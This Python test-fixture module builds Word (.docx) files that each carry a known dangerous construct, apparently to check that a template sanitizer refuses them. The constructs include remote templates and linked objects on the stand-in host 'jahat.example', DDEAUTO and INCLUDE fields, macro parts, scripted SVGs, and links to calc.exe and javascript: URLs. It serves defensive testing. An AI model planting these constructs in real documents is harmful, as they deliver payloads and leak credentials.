"""Word files that carry, fetch or run what no template may: one for each door we know of."""

from __future__ import annotations

from collections.abc import Mapping
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = "[Content_Types].xml"
PAGE_RELS = "word/_rels/document.xml.rels"
V = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
CHARS = {kind: f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")}
EVIL = "jahat.example"
"""What no document may hold afterwards."""


def parts_of(data: bytes) -> dict[str, bytes]:
    with ZipFile(BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(parts: Mapping[str, bytes]) -> bytes:
    stream = BytesIO()
    with ZipFile(stream, "w", ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return stream.getvalue()


def related(
    data: bytes,
    kind: str,
    target: str,
    content: bytes | None = None,
    tipe: str = "",
    rels: str = PAGE_RELS,
    inside: str = "",
) -> bytes:
    """The file with one relationship more: to a part of this content, or outside where there is none."""
    parts = parts_of(data)
    whole = kind if "://" in kind else f"{R}/{kind}"
    mode = ' TargetMode="External"' if content is None else ""
    relation = f'<Relationship Id="rIdJahat" Type="{whole}" Target="{target}"{mode}/></Relationships>'
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    parts[rels] = parts.get(rels, empty).replace(b"</Relationships>", relation.encode())
    if content is not None:
        folder = "word/" if rels.startswith("word/") else ""
        name = target.lstrip("/") if target.startswith("/") else f"{folder}{target}"
        parts[name] = content
        if tipe:
            override = f'<Override PartName="/{name}" ContentType="{tipe}"/></Types>'
            parts[TYPES] = parts[TYPES].replace(b"</Types>", override.encode())
    return with_body(zipped(parts), inside) if inside else zipped(parts)


def with_body(data: bytes, inside: str) -> bytes:
    """The file with raw XML put first in its body."""
    parts = parts_of(data)
    xml = parts["word/document.xml"].decode()
    parts["word/document.xml"] = xml.replace("<w:body>", f"<w:body>{inside}", 1).encode()
    return zipped(parts)


def field(*code: str, between: str = "") -> str:
    """A field whose instruction stands in as many runs."""
    runs = between.join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in code)
    return CHARS["begin"] + runs + CHARS["separate"] + "<w:r><w:t>x</w:t></w:r>" + CHARS["end"]


def of_paragraph(inside: str) -> str:
    return f"<w:p>{inside}</w:p>"


def drawn(attributes: str) -> str:
    return of_paragraph(f"<w:r><w:pict {V}><v:shape><v:imagedata {attributes}/></v:shape></w:pict></w:r>")


SETTINGS = "word/_rels/settings.xml.rels"
OLE = "application/vnd.openxmlformats-officedocument.oleObject"
BOOK = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
VBA = "application/vnd.ms-office.vbaProject"
ADDIN = "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"
RIBBON = "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility"
SVG = "image/svg+xml"


def carriers(data: bytes) -> dict[str, bytes]:
    """The file once for each part or relationship that no template may have; each is refused."""
    outside = f"http://{EVIL}/x"
    return {
        "a template on a server": related(data, "attachedTemplate", f"{outside}.dotm", rels=SETTINGS),
        "a template on a share": related(data, "attachedTemplate", f"file:///\\\\{EVIL}\\x.dotm", rels=SETTINGS),
        "a template on a share, plain": related(data, "attachedTemplate", f"\\\\{EVIL}\\x.dotm", rels=SETTINGS),
        "a picture on a page": related(data, "image", f"{outside}.png"),
        "a picture on a share": related(data, "image", f"file://{EVIL}/x.png"),
        "a header on a page": related(data, "header", f"{outside}.xml"),
        "styles on a page": related(data, "styles", f"{outside}.xml"),
        "a document put in whole": related(data, "aFChunk", "x.html", b"<script>1</script>", "text/html"),
        "a document put in from a page": related(data, "aFChunk", f"{outside}.html"),
        "an object": related(data, "oleObject", "embeddings/o.bin", b"\xd0\xcf", OLE),
        "an object that is linked": related(data, "oleObject", f"{outside}.xlsx"),
        "a workbook as an object": related(data, "package", "embeddings/o.xlsx", b"PK", BOOK),
        "a control": related(data, "control", "activeX/a.xml", b"<x/>", "application/vnd.ms-office.activeX+xml"),
        "macros": related(
            data, "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", b"x", VBA
        ),
        "a document within": related(data, "subDocument", "x.docx", b"PK"),
        "a frame": related(data, "frame", f"{outside}.htm"),
        "an add-in": related(data, ADDIN, "word/webextensions/t.xml", b"<x/>", rels="_rels/.rels"),
        "a ribbon": related(data, RIBBON, "customUI/c.xml", b"<x/>", rels="_rels/.rels"),
        "what Word learns tomorrow": related(data, "besok", "besok.xml", b"<x/>"),
        "a picture that is something else": related(data, "image", "media/x.bin", b"x", VBA),
        "a drawing with a script": related(data, "image", "media/x.svg", b"<svg><script>1</script></svg>", SVG),
        "a drawing that fetches": related(
            data, "image", "media/y.svg", f'<svg><image href="{outside}"/></svg>'.encode(), SVG
        ),
        "a link to a program": related(data, "hyperlink", "file:///C:/Windows/System32/calc.exe"),
        "a link to a share": related(data, "hyperlink", f"\\\\{EVIL}\\x"),
        "a link that runs": related(data, "hyperlink", "javascript:alert(1)"),
        "entities": zipped(
            {
                name: content.replace(b"<w:styles", b'<!DOCTYPE x [<!ENTITY a "b">]><w:styles', 1)
                for name, content in parts_of(data).items()
            }
        ),
    }


WORDS = (
    *("DDE", "DDEAUTO", "INCLUDEPICTURE", "INCLUDETEXT", "INCLUDE", "LINK", "IMPORT", "EMBED", "DATABASE", "RD"),
    *(
        "MACROBUTTON",
        "GOTOBUTTON",
        "AUTOTEXT",
        "AUTOTEXTLIST",
        "GLOSSARY",
        "ASK",
        "FILLIN",
        "PRINT",
        "ADDIN",
        "CONTROL",
    ),
    *("HTMLACTIVEX", "PRIVATE", "NEXT", "MERGEREC", "DATA", "BESOK"),
)
"""First words of fields that fetch, run or ask, and one that nobody knows."""


def pages(data: bytes) -> dict[str, bytes]:
    """The file once for each thing on its page that fetches, runs or asks; each is refused."""
    dde = f"DDEAUTO c:\\\\x {EVIL}"
    within = (
        CHARS["begin"] + field("QUOTE 68 68 69") + f"<w:r><w:instrText> {EVIL}</w:instrText></w:r>" + CHARS["end"]
    )
    torn = f"</w:p><w:p>{{%p if 0 %}}</w:p><w:p><w:r><w:instrText>{dde}</w:instrText></w:r>"
    made = {
        **{f"a field {word}": of_paragraph(field(f" {word.lower()} {EVIL} ")) for word in WORDS},
        "a simple field": f'<w:p><w:fldSimple w:instr=" {dde}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>',
        "a field in pieces": of_paragraph(
            field("D", "DE", "AUTO c:\\\\x", between="<w:r><w:rPr><w:b/></w:rPr></w:r>")
        ),
        "a field within a field": of_paragraph(CHARS["begin"] + field(dde) + CHARS["end"]),
        "a field whose name another makes": of_paragraph(within),
        "a field in another's result": of_paragraph(
            CHARS["begin"] + field("PAGE")[: -len(CHARS["end"])] + field(dde) + CHARS["end"] * 2
        ),
        "a field never closed": of_paragraph(CHARS["begin"] + f"<w:r><w:instrText>{dde}</w:instrText></w:r>"),
        "a field of plain text": of_paragraph(CHARS["begin"] + f"<w:r><w:t>{dde}</w:t></w:r>" + CHARS["end"]),
        "a field of a tag": of_paragraph(field("{{ kode }} x")),
        "a field over paragraphs": of_paragraph(
            CHARS["begin"] + "<w:r><w:instrText>SEQ </w:instrText></w:r>" + torn + CHARS["end"]
        ),
        "a link field to a program": of_paragraph(field('HYPERLINK "file:///C:/Windows/calc.exe"')),
        "a link field that data leads": of_paragraph(field('HYPERLINK "{{ laman }}"')),
        "a drawing by address": drawn(f'src="http://{EVIL}/x.png"'),
        "a drawing by another address": drawn(f'o:href="http://{EVIL}/x.png"'),
        "a drawing that links": of_paragraph(f'<w:r><w:pict {V}><v:rect href="\\\\{EVIL}\\x"/></w:pict></w:r>'),
    }
    return {name: with_body(data, inside) for name, inside in made.items()}


def left_behind(data: bytes) -> dict[str, bytes]:
    """The file once for each thing that Word leaves in it and a document does without."""
    return {
        "a template of its author's disk": related(
            data, "attachedTemplate", f"file:///C:/Users/{EVIL}/x.dotm", rels=SETTINGS
        ),
        "a mail merge": related(data, "mailMergeSource", f"file:///C:/{EVIL}.xlsx", rels=SETTINGS),
        "comments": related(data, "comments", "comments.xml", EVIL.encode()),
        "data of its own": related(data, "customXml", "/customXml/item1.xml", f"<x>{EVIL}</x>".encode()),
        "building blocks": related(data, "glossaryDocument", "glossary/document.xml", EVIL.encode()),
        "settings of a page": related(data, "webSettings", "webSettings.xml", EVIL.encode()),
        "settings of a printer": related(data, "printerSettings", "printerSettings1.bin", EVIL.encode()),
        "a part that nothing leads to": zipped({**parts_of(data), "word/vbaProject.bin": EVIL.encode()}),
    }
